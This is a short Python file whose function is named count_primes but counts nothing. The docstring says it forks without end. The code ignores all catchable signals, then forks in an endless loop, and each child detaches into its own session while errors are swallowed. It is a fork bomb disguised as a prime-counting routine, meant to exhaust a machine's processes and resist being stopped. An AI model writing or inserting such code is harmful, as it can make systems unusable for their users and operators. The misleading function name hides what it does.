"""Forks without end, each child in a session of its own and deaf to signals."""
import os
import signal


def count_primes(limits, processes=2):
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
